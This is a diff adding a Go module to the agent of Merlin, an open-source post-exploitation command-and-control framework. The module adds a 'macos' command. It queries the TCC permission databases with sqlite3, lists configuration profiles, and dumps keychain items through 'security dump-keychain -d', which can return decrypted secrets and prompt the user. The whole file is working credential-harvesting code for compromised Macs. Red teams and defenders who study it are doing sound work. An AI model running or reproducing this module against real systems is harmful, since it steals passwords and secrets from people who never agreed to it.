@@ -0,0 +1,170 @@
+//go:build darwin
+// +build darwin
+
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package commands
+
+import (
+	// Standard
+	"fmt"
+	"os"
+	"os/exec"
+	"strings"
+
+	// Merlin Main
+	"github.com/Ne0nd0g/merlin/pkg/jobs"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/cli"
+)
+
+// tccDatabases are the system and user Transparency, Consent, and Control (TCC) permission databases
+var tccDatabases = []string{
+	"/Library/Application Support/com.apple.TCC/TCC.db",
+	"~/Library/Application Support/com.apple.TCC/TCC.db",
+}
+
+// MacOS enumerates macOS specific security information:
+//
+//	macos tcc                - TCC permissions granted to applications, readable only with Full Disk Access
+//	macos keychain [secrets] - keychain items; secrets also dumps the decrypted values and can prompt the user
+//	macos profiles           - installed configuration profiles
+func MacOS(cmd jobs.Command) (results jobs.Results, structured Structured) {
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, fmt.Sprintf("entering MacOS() with %+v", cmd))
+	}
+	if len(cmd.Args) < 1 {
+		results.Stderr = "expected a macos command: tcc, keychain, or profiles"
+		return
+	}
+	var findings []FindingRecord
+	switch strings.ToLower(cmd.Args[0]) {
+	case "tcc":
+		findings, results.Stderr = tcc()
+	case "keychain":
+		secrets := len(cmd.Args) > 1 && strings.ToLower(cmd.Args[1]) == "secrets"
+		findings, results.Stderr = keychain(secrets)
+	case "profiles":
+		out, err := exec.Command("/usr/bin/profiles", "list", "-all").CombinedOutput() // #nosec G204
+		if err != nil {
+			results.Stderr = fmt.Sprintf("there was an error listing the configuration profiles: %s", err)
+		}
+		for _, line := range strings.Split(strings.TrimSpace(string(out)), "\n") {
+			if strings.TrimSpace(line) != "" {
+				findings = append(findings, FindingRecord{Category: "profiles", Name: "Profile", Value: strings.TrimSpace(line)})
+			}
+		}
+	default:
+		results.Stderr = fmt.Sprintf("unknown macos command: %s", cmd.Args[0])
+		return
+	}
+	results.Stdout = findingsText(findings)
+	structured = newStructured("macos", findings)
+	return
+}
+
+// tcc reads the TCC databases to list the services each application has been granted or denied. The agent's host
+// process has Full Disk Access if it can read the databases; the query does not cause a TCC prompt.
+func tcc() (findings []FindingRecord, stderr string) {
+	home, _ := os.UserHomeDir()
+	for _, db := range tccDatabases {
+		scope := "system"
+		if strings.HasPrefix(db, "~") {
+			scope = "user"
+			db = strings.Replace(db, "~", home, 1)
+		}
+		if _, err := os.ReadFile(db); err != nil {
+			findings = append(findings, FindingRecord{Category: "tcc", Name: db, Value: fmt.Sprintf("not readable: %s", err)})
+			continue
+		}
+		findings = append(findings, FindingRecord{Category: "tcc", Name: db, Value: "readable, the agent's process has Full Disk Access"})
+		// The auth_value column replaced allowed in macOS 11
+		var out []byte
+		var err error
+		for _, column := range []string{"auth_value", "allowed"} {
+			query := fmt.Sprintf("SELECT service, client, %s FROM access", column)
+			out, err = exec.Command("/usr/bin/sqlite3", "-separator", "|", db, query).Output() // #nosec G204
+			if err == nil {
+				break
+			}
+		}
+		if err != nil {
+			stderr += fmt.Sprintf("there was an error querying %s: %s\n", db, err)
+			continue
+		}
+		for _, line := range strings.Split(strings.TrimSpace(string(out)), "\n") {
+			fields := strings.Split(line, "|")
+			if len(fields) != 3 {
+				continue
+			}
+			value := "denied"
+			if fields[2] != "0" {
+				value = "allowed"
+			}
+			findings = append(findings, FindingRecord{Category: "tcc", Name: fmt.Sprintf("%s %s %s", scope, fields[0], fields[1]), Value: value})
+		}
+	}
+	return
+}
+
+// keychain lists the keychains in the search list and their items. The item metadata doesn't require the keychain
+// password, the decrypted secrets are only returned for items the agent's process can access and may prompt the user.
+func keychain(secrets bool) (findings []FindingRecord, stderr string) {
+	out, err := exec.Command("/usr/bin/security", "list-keychains").Output() // #nosec G204
+	if err != nil {
+		return nil, fmt.Sprintf("there was an error listing the keychains: %s", err)
+	}
+	for _, line := range strings.Split(strings.TrimSpace(string(out)), "\n") {
+		findings = append(findings, FindingRecord{Category: "keychain", Name: "Keychain", Value: strings.Trim(strings.TrimSpace(line), "\"")})
+	}
+
+	args := []string{"dump-keychain"}
+	if secrets {
+		args = append(args, "-d")
+	}
+	out, err = exec.Command("/usr/bin/security", args...).CombinedOutput() // #nosec G204
+	if err != nil {
+		stderr = fmt.Sprintf("there was an error dumping the keychain: %s", err)
+	}
+	// Each item starts with its keychain and is followed by its class and attributes
+	var item []string
+	flush := func() {
+		if len(item) > 0 {
+			findings = append(findings, FindingRecord{Category: "keychain", Name: "Item", Value: strings.Join(item, "; ")})
+			item = nil
+		}
+	}
+	for _, line := range strings.Split(string(out), "\n") {
+		line = strings.TrimSpace(line)
+		switch {
+		case strings.HasPrefix(line, "keychain:"):
+			flush()
+		case strings.HasPrefix(line, "class:"), strings.HasPrefix(line, "\"acct\""), strings.HasPrefix(line, "\"svce\""),
+			strings.HasPrefix(line, "\"srvr\""), strings.HasPrefix(line, "\"labl\""), strings.HasPrefix(line, "data:"):
+			item = append(item, line)
+		default:
+			// The decrypted data follows the data: line
+			if secrets && len(item) > 0 && strings.HasPrefix(item[len(item)-1], "data:") && line != "" && !strings.HasPrefix(line, "\"") && !strings.HasPrefix(line, "0x") {
+				item = append(item, line)
+			}
+		}
+	}
+	flush()
+	return
+}